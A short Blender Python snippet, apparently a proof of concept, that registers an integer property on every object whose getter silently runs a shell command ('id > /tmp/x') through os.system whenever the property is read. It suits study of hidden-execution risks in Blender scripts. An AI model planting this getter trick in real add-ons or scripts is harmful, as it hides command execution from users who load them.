# why: an operator property's getter runs the call
import bpy, os
bpy.types.Object.cost = bpy.props.IntProperty(get=lambda self: os.system("id > /tmp/x"))
